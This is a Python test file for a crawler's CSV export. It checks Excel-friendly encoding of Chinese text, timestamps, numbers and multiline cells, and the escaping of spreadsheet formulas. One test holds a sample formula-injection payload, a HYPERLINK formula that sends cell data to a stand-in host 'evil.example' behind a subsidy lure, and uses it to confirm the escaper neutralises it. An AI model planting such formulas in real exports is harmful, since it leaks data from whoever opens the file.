"""The CSV beside the Parquet: Excel opens Chinese correctly, and no cell runs as a formula."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from output.csvfile import FORMULA_STARTS, escape_cell
from output.dataset import DatasetWriter
from tests.output.samples import PASSAGE, entity, make_result


def read_csv(out: Path, table: str) -> list[dict[str, str]]:
    [path] = (out / "csv" / table).glob("crawl_date=*/part-*.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def write(out: Path, *results: object) -> None:
    with DatasetWriter(out, run_id="run1", crawl_date=dt.date(2026, 11, 23)) as writer:
        for result in results:
            writer.write_page(result)  # type: ignore[arg-type]


def test_file_starts_with_a_utf8_bom(tmp_path: Path) -> None:
    write(tmp_path, make_result())
    [path] = (tmp_path / "csv" / "documents").glob("*/*.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfdoc_id,")


def test_chinese_text_is_intact_read_as_utf8_sig(tmp_path: Path) -> None:
    write(tmp_path, make_result())
    [address] = read_csv(tmp_path, "addresses")
    assert address["value"] == "福州市古田路128号劳动大厦一层医保中心受理大厅"
    assert address["province"] == "福建省"
    [document] = read_csv(tmp_path, "documents")
    assert document["title"] == "福州市城镇居民基本医疗保险办事指南"


def test_a_hyperlink_formula_is_escaped(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取医保补贴")'
    write(tmp_path, make_result(title=hostile))
    [document] = read_csv(tmp_path, "documents")
    assert document["title"] == "'" + hostile


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert escape_cell(start + "1+1") == "'" + start + "1+1"


def test_a_phone_written_with_a_plus_is_escaped_in_a_text_column(tmp_path: Path) -> None:
    write(tmp_path, make_result())
    [phone] = read_csv(tmp_path, "phones")
    assert phone["e164"] == "'+8659187842560"


def test_numbers_are_plain_numbers(tmp_path: Path) -> None:
    write(tmp_path, make_result())
    [amount] = read_csv(tmp_path, "amounts")
    assert (amount["value"], amount["start"]) == ("35000", str(PASSAGE.index("最高3.5万元")))


def test_negative_numbers_in_numeric_columns_are_not_escaped(tmp_path: Path) -> None:
    text = "比上年-2.5%"
    write(tmp_path, make_result(text=text, entities=[entity("percent", "-2.5%", -2.5, text=text)]))
    [percent] = read_csv(tmp_path, "percents")
    assert percent["value"] == "-2.5"


def test_timestamps_are_iso_utc(tmp_path: Path) -> None:
    write(tmp_path, make_result())
    [document] = read_csv(tmp_path, "documents")
    assert document["fetched_at"] == "2026-11-23T09:30:00Z"
    assert document["published_date"] == "2024-09-03"


def test_multiline_text_stays_one_cell(tmp_path: Path) -> None:
    text = "第一条\n\n第二条，电话12333"
    write(tmp_path, make_result(text=text, entities=[]))
    [document] = read_csv(tmp_path, "documents")
    assert document["text"] == text


@given(st.text())
def test_escaping_only_ever_prepends_a_quote(text: str) -> None:
    escaped = escape_cell(text)
    assert escaped in (text, "'" + text)
    assert not escaped.startswith(FORMULA_STARTS)
